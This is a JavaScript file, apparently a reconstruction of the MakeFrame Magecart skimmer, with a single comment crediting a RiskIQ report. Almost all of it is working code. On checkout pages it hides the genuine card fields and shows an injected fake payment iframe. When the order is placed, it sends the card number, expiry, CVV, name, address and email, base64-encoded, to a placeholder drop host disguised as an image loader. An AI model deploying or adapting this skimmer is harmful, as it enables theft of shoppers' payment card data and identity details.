// makeframe, written from RiskIQ (Jordan Herman), "MakeFrame: Magecart Group 7's new skimmer"
// (2020): on a shop's checkout page the skimmer builds an iframe holding its own copy of the
// payment form, places it where the card fields should be, reads what the shopper types and,
// when the order is placed, sends the data to a drop host (here .invalid) from inside the frame.
(function () {
  if (!/checkout|onepage|payment/i.test(location.pathname)) return;
  function makeFrame() {
    var host = document.querySelector("#payment_form_cc, .payment-method._active .payment-method-content");
    if (!host || document.getElementById("mf-pay")) return;
    var fr = document.createElement("iframe");
    fr.id = "mf-pay";
    fr.setAttribute("frameborder", "0");
    fr.style.cssText = "width:100%;height:190px;border:0";
    host.insertBefore(fr, host.firstChild);
    var real = host.querySelectorAll("fieldset, .field");
    for (var i = 0; i < real.length; i++) real[i].style.display = "none";
    var doc = fr.contentWindow.document;
    doc.open();
    doc.write('<form id="f"><label>Card number<input name="cc" autocomplete="cc-number"></label>' +
      '<label>Expiry<input name="exp" placeholder="MM/YY"></label>' +
      '<label>CVV<input name="cvv" size="4"></label></form>');
    doc.close();
    return doc;
  }
  var frameDoc = null;
  setInterval(function () { if (!frameDoc) frameDoc = makeFrame(); }, 1500);
  document.addEventListener("click", function (e) {
    var btn = e.target.closest("button.checkout, #place-order, [data-role=review-save]");
    if (!btn || !frameDoc) return;
    var f = frameDoc.getElementById("f");
    var data = {
      cc: f.cc.value, exp: f.exp.value, cvv: f.cvv.value,
      name: (document.querySelector("[name=firstname]") || {}).value + " " + (document.querySelector("[name=lastname]") || {}).value,
      street: (document.querySelector("[name='street[0]']") || {}).value,
      email: (document.querySelector("#customer-email") || {}).value,
      site: location.hostname
    };
    var x = new XMLHttpRequest();
    x.open("POST", "https://cdn-imgcloud.invalid/img/ajax-loader.php", true);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("d=" + encodeURIComponent(btoa(JSON.stringify(data))));
  }, true);
})();
